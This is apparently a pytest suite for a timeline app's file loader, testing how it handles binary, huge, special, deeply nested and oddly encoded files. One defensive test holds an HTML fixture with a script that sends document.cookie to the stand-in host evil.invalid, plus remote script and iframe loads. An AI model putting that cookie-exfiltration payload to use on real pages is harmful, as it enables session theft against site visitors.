"""Hostile input: every unusable file is reported by name with a reason, every usable one is read."""

from __future__ import annotations

import os
from datetime import date
from pathlib import Path

import pytest

from timeline_app.core.loading import load
from timeline_app.core.tagger import tag

REF = date(2025, 5, 6)
GOOD = "Lithuania said on March 18, 2025 that it would leave the treaty."


def _reasons(result) -> dict[str, str]:  # noqa: ANN001
    return {Path(f.path).name: f.reason for f in result.failures}


@pytest.mark.parametrize(("name", "content", "reason"), [
    ("binary.txt", bytes(range(256)) * 20, "binary"),
    ("nul.txt", b"Text with a NUL\x00 byte in it on March 18, 2025." * 3, "binary"),
    ("empty.txt", b"", "empty"),
    ("spaces.md", b" \n\t\n  ", "empty"),
    ("image.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
    ("numbers.txt", b"123 456 789 2025", "no readable text"),
])
def test_unusable_files_are_named_with_a_reason(tmp_path: Path, name: str, content: bytes, reason: str) -> None:
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / name).write_bytes(content)
    result = load([tmp_path], reference=REF)
    assert [a.article.name for a in result.analyses] == ["good.txt"]
    assert reason in _reasons(result)[name]


@pytest.mark.parametrize(("name", "content"), [
    ("invalid-utf8.txt", b"Caf\xe9 owners met on March 18, 2025 \xff\xfe in Vilnius."),
    ("cp1252.txt", "Café – “quoted” on March 18, 2025.".encode("cp1252")),
    ("utf16.txt", "Café on March 18, 2025.".encode("utf-16")),
    ("bom.md", b"\xef\xbb\xbf# Title\n\nOn March 18, 2025 it began."),
    ("crlf.txt", b"Title\r\n\r\nOn March 18, 2025 it began.\r\n"),
])
def test_odd_encodings_are_read(tmp_path: Path, name: str, content: bytes) -> None:
    (tmp_path / name).write_bytes(content)
    result = load([tmp_path], reference=REF)
    assert result.failures == []
    [analysis] = result.analyses
    assert any(e.value == "2025-03-18" for e in analysis.expressions)


def test_html_with_scripts_iframes_and_remote_images_runs_and_fetches_nothing(tmp_path: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    def no_network(*args, **kwargs):  # noqa: ANN002, ANN003, ANN202
        raise AssertionError("a network connection was attempted")

    import trafilatura  # noqa: F401 - imported before the guard: ssl subclasses socket.socket

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket.socket, "connect_ex", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    page = """<html><head><script src="http://evil.invalid/x.js"></script>
    <script>fetch("http://evil.invalid/?" + document.cookie); document.write("March 3, 1999")</script>
    <link rel="stylesheet" href="http://evil.invalid/s.css"><meta http-equiv="refresh" content="0;url=http://x.invalid"></head>
    <body onload="alert(1)"><iframe src="http://evil.invalid/frame"></iframe><img src="http://evil.invalid/p.png">
    <article><p>Lithuania said on March 18, 2025 that it would leave the treaty on landmines.</p>
    <p>The decision was criticised by humanitarian groups the following week.</p></article></body></html>"""
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    result = load([tmp_path], reference=REF)
    [analysis] = result.analyses
    assert "March 18, 2025" in analysis.article.text
    assert "1999" not in analysis.article.text and "evil" not in analysis.article.text


def test_deeply_nested_html_is_read(tmp_path: Path) -> None:
    depth = 5000
    page = "<html><body>" + "<div>" * depth + "<p>It began on March 18, 2025.</p>" + "</div>" * depth + "</body></html>"
    (tmp_path / "nested.html").write_text(page, encoding="utf-8")
    result = load([tmp_path], reference=REF)
    assert result.failures == [] or "nested.html" in _reasons(result)
    if result.analyses:
        assert "March 18, 2025" in result.analyses[0].article.text


def test_a_huge_file_is_refused_by_name_and_the_others_load(tmp_path: Path) -> None:
    big = tmp_path / "huge.txt"
    with big.open("wb") as f:
        f.truncate(50 * 1024 * 1024)  # 50 MB (sparse)
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    result = load([tmp_path], reference=REF)
    assert [a.article.name for a in result.analyses] == ["good.txt"]
    assert "too large" in _reasons(result)["huge.txt"]


def test_thousands_of_files_a_symlink_loop_odd_names_and_a_folder_named_like_a_file(tmp_path: Path) -> None:
    many = tmp_path / "many"
    many.mkdir()
    for i in range(2000):
        (many / f"n{i:04d}.txt").write_text(f"Item {i} happened in {1900 + i % 120}.", encoding="utf-8")
    (many / "loop").symlink_to(many, target_is_directory=True)
    (tmp_path / "folder.txt").mkdir()
    (tmp_path / "folder.txt" / "inner.txt").write_text(GOOD, encoding="utf-8")
    odd = tmp_path / "ünïcödé — “name” #1 ✓.txt"
    odd.write_text(GOOD, encoding="utf-8")
    (tmp_path / "dangling.txt").symlink_to(tmp_path / "nowhere.txt")
    result = load([tmp_path], reference=REF)
    names = {a.article.name for a in result.analyses}
    assert len(names) == 2000 + 2
    assert odd.name in names and "inner.txt" in names
    assert "dangling.txt" in _reasons(result)


def test_unreadable_file_is_reported(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads every file")
    p = tmp_path / "secret.txt"
    p.write_text(GOOD, encoding="utf-8")
    p.chmod(0)
    result = load([tmp_path], reference=REF)
    assert "permission" in _reasons(result)["secret.txt"]


@pytest.mark.parametrize("text", [
    "It was signed on February 30, 2025.", "Form 32/13/2025 was filed.", "In the year 0 nothing happened.",
    "By 9999 the sun will be older.", "Rome fell in the 3rd century BC.", "On 2025-02-29 it rained.",
    "Between 2030 and 2026 it will run.", "In the 10000s.", "On 31/02/2025 it closed.",
])
def test_impossible_dates_are_not_placed_and_nothing_raises(text: str) -> None:
    for e in tag(text, REF):
        if e.placed:
            assert e.lo is None or e.hi is None or e.lo <= e.hi
            assert not (e.lo and e.lo.year < 1000) and not (e.hi and e.hi.year > 2199)
    impossible = [e for e in tag(text, REF) if e.placed and e.text in ("February 30, 2025", "32/13/2025",
                                                                      "2025-02-29", "31/02/2025")]
    assert impossible == []


# ---------------------------------------------------------------------------------------------
# Special files, links and deep folders: refused by name, never a hang, never a lost neighbour


@pytest.fixture
def deep_folders(tmp_path: Path):  # noqa: ANN201
    """``tmp_path/d/d/.../d`` 1,000 levels down, removed afterwards without recursion (shutil.rmtree
    recurses, and pytest's clean-up of old temporary folders with it)."""
    deep = tmp_path
    for _ in range(1000):  # one level at a time: mkdir(parents=True) itself recurses
        deep = deep / "d"
        deep.mkdir()
    yield deep
    cwd = os.getcwd()
    try:
        os.chdir(deep)
        for _ in range(1000):
            for name in os.listdir("."):
                if not os.path.isdir(name):
                    os.unlink(name)
            os.chdir("..")
            os.rmdir("d")
    finally:
        os.chdir(cwd)


def test_a_fifo_a_device_link_and_deep_folders_never_cost_the_good_article(tmp_path: Path, deep_folders: Path) -> None:
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    os.mkfifo(tmp_path / "x.txt")
    (tmp_path / "zero.txt").symlink_to("/dev/zero")
    (tmp_path / "pipe-link.txt").symlink_to(tmp_path / "x.txt")
    deep = deep_folders
    (deep / "bottom.txt").write_text(GOOD.replace("Lithuania", "Latvia"), encoding="utf-8")
    result = load([tmp_path], reference=REF)
    assert sorted(a.article.name for a in result.analyses) == ["bottom.txt", "good.txt"]
    reasons = _reasons(result)
    assert "FIFO" in reasons["x.txt"] and "FIFO" in reasons["pipe-link.txt"] and "link" in reasons["pipe-link.txt"]
    assert "device" in reasons["zero.txt"]


def test_special_files_named_on_the_command_line_are_refused_by_type(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "x.txt")
    result = load([tmp_path / "x.txt", "/dev/zero", "/dev/null"], reference=REF)
    assert result.analyses == []
    assert [f.reason for f in result.failures] == ["a named pipe (FIFO), not a file", "a device, not a file",
                                                   "a device, not a file"]


def test_a_link_to_a_regular_file_outside_the_folder_is_read(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.txt"
    outside.write_text(GOOD, encoding="utf-8")
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "linked.txt").symlink_to(outside)
    result = load([folder], reference=REF)
    assert [a.article.name for a in result.analyses] == ["linked.txt"]


def test_a_file_that_grows_past_the_limit_while_read_is_refused(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from timeline_app.core import files
    from timeline_app.core.article import ArticleError, read_article
    from timeline_app.core.settings import Settings

    p = tmp_path / "growing.txt"
    p.write_text(GOOD * 100, encoding="utf-8")
    real_fstat = os.fstat

    def lying_fstat(fd: int) -> os.stat_result:  # a size of 0, as a device or a file still being written
        st = real_fstat(fd)
        return os.stat_result((st.st_mode, st.st_ino, st.st_dev, st.st_nlink, st.st_uid, st.st_gid, 0,
                               st.st_atime, st.st_mtime, st.st_ctime))

    monkeypatch.setattr(files.os, "fstat", lying_fstat)
    with pytest.raises(ArticleError, match="too large"):
        read_article(p, settings=Settings(max_file_bytes=1000))


def test_binary_behind_a_utf16_bom_is_binary(tmp_path: Path) -> None:
    import random

    noise = random.Random(7).randbytes(10_000)
    (tmp_path / "bom.txt").write_bytes(b"\xff\xfe" + noise)
    (tmp_path / "real.txt").write_bytes("Café owners met on March 18, 2025 in Vilnius.".encode("utf-16"))
    result = load([tmp_path], reference=REF)
    assert [a.article.name for a in result.analyses] == ["real.txt"]
    assert "binary" in _reasons(result)["bom.txt"]


@pytest.mark.parametrize("script", [
    "<script>document.write('Updated March 3, 1999 by the desk');</script>",
    "<SCRIPT type='text/javascript'>var published = '1999-03-03';</SCRIPT>",
    "<script>showDate('1999/03/03')",  # never closed
])
def test_a_date_inside_a_script_is_never_text(tmp_path: Path, script: str) -> None:
    """A script's date is never read as an event or a byline. Its publication date may be the
    page's: publishers state theirs in script data too (3 of 200 real pages measured), so the
    page's metadata reader (htmldate) may take it, as page metadata."""
    from timeline_app.core.article import DATE_BYLINE, read_article

    body = ("<p>Lithuania said it would build a fence along the border with Belarus. The work will take several "
            "years and cost millions, officials told reporters in the capital.</p>")
    page = f"<html><head><title>Border</title>{script}</head><body><article>{body}</article></body></html>"
    if "never closed" in script or not script.endswith(">"):
        page = f"<html><head><title>Border</title></head><body><article>{body}</article>{script}</body></html>"
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    article = read_article(tmp_path / "page.html")
    assert article.date_source != DATE_BYLINE
    assert "1999" not in article.text


def test_structured_data_keeps_its_publication_date(tmp_path: Path) -> None:
    from timeline_app.core.article import read_article

    body = ("<p>Lithuania said it would build a fence along the border with Belarus. The work will take several "
            "years and cost millions, officials told reporters in the capital.</p>")
    page = ('<html><head><title>Border</title><script type="application/ld+json">{"@type": "NewsArticle", '
            '"datePublished": "2025-03-18T09:00:00Z"}</script></head><body><article>' + body
            + "</article></body></html>")
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    assert read_article(tmp_path / "page.html").published == date(2025, 3, 18)


def test_a_json_file_named_on_the_command_line_is_not_read_as_an_article(tmp_path: Path) -> None:
    (tmp_path / "data.json").write_text('{"publication_date": "2025-03-18"}', encoding="utf-8")
    result = load([tmp_path / "data.json"], reference=REF)
    assert result.analyses == []
    assert "not an article file type (.json" in result.failures[0].reason


def test_export_names_every_bad_file_and_exports_the_good_one(tmp_path: Path, deep_folders: Path) -> None:
    """A FIFO, a /dev/zero link, 1,000 nested folders and a 20 MB single-line file beside a good article."""
    import base64
    import random
    import subprocess
    import sys

    folder = tmp_path
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    os.mkfifo(folder / "x.txt")
    (folder / "zero.txt").symlink_to("/dev/zero")
    blob = base64.b64encode(random.Random(1).randbytes(15_000_000))[:19_900_000]
    (folder / "line.md").write_bytes(b"![chart](data:image/png;base64," + blob + b")")
    done = subprocess.run([sys.executable, "-m", "timeline_app", "export", str(folder), "--reference-date",
                           "2025-05-06", "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    skipped = {line.split(": ", 2)[1].rsplit("/", 1)[-1] for line in done.stderr.splitlines() if "skipped" in line}
    assert {"x.txt", "zero.txt"} <= skipped
    sources = (tmp_path / "out" / "timeline.csv").read_text(encoding="utf-8")
    assert "good.txt" in sources


def test_a_file_over_its_time_budget_is_reported_and_the_others_are_read(tmp_path: Path) -> None:
    from timeline_app.core.settings import Settings

    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    sentence = "The council met on Monday to discuss the fence along the border and said it would act. "
    (tmp_path / "slow.txt").write_text(sentence * 40_000, encoding="utf-8")  # ~3.5 MB of one paragraph
    result = load([tmp_path], reference=REF, settings=Settings(file_seconds=0.3))
    assert [a.article.name for a in result.analyses] == ["good.txt"]
    assert "took too long" in _reasons(result)["slow.txt"]


def test_cancel_stops_inside_a_long_file(tmp_path: Path) -> None:
    import threading
    import time

    sentence = "The council met on Monday to discuss the fence along the border and said it would act. "
    (tmp_path / "slow.txt").write_text(sentence * 40_000, encoding="utf-8")
    stop = threading.Event()
    threading.Timer(0.3, stop.set).start()
    start = time.monotonic()
    result = load([tmp_path], reference=REF, cancelled=stop.is_set)
    assert result.cancelled and result.analyses == []
    assert time.monotonic() - start < 3  # stopped within the file, not after it


@pytest.mark.parametrize(("published", "text"), [
    (date(9999, 12, 25), "The talks began on Monday. The following week they stopped. Two days later they resumed."),
    (date(9999, 12, 31), "Next year the plan ends; a decade later it is reviewed; in the next century, who knows."),
    (date(1, 1, 2), "Last week the plan began. A year earlier it was drafted. The previous century was calmer."),
])
def test_dates_past_the_calendar_stay_unresolved_and_the_article_is_kept(tmp_path: Path, published: date,
                                                                         text: str) -> None:
    from timeline_app.core.periods import GRANULARITIES

    (tmp_path / "edge.txt").write_text(text, encoding="utf-8")
    result = load([tmp_path], dates={"edge.txt": published})
    assert result.failures == []
    [analysis] = result.analyses
    assert analysis.expressions
    assert all(e.granularity in GRANULARITIES or e.kind in ("duration", "set", "vague") for e in analysis.expressions)


@pytest.mark.parametrize(("phrase", "granularity", "value"), [
    ("this weekend", "week", "XXXX-WXX-WE"), ("next spring", "season", "XXXX-SP"),
    ("last summer", "season", "XXXX-SU"), ("this winter", "season", "XXXX-WI"), ("next week", "week", "XXXX-WXX"),
])
def test_relative_periods_without_a_reference_have_documented_granularities(phrase: str, granularity: str,
                                                                           value: str) -> None:
    [e] = [e for e in tag(f"They will meet {phrase}.", None) if e.text == phrase]
    assert (e.granularity, e.value) == (granularity, value)


def test_legal_long_file_names_can_be_written(tmp_path: Path) -> None:
    from timeline_app.core import project as proj
    from timeline_app.core.files import write_file

    stem = "a" * (255 - len(".timeline.json"))  # the longest name the file system allows
    path = proj.save(proj.Project(), tmp_path / f"{stem}.timeline.json")
    assert proj.load(path).sources == []
    picture = tmp_path / ("b" * 251 + ".png")
    write_file(picture, b"\x89PNG")
    assert picture.read_bytes() == b"\x89PNG"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([path.name, picture.name])
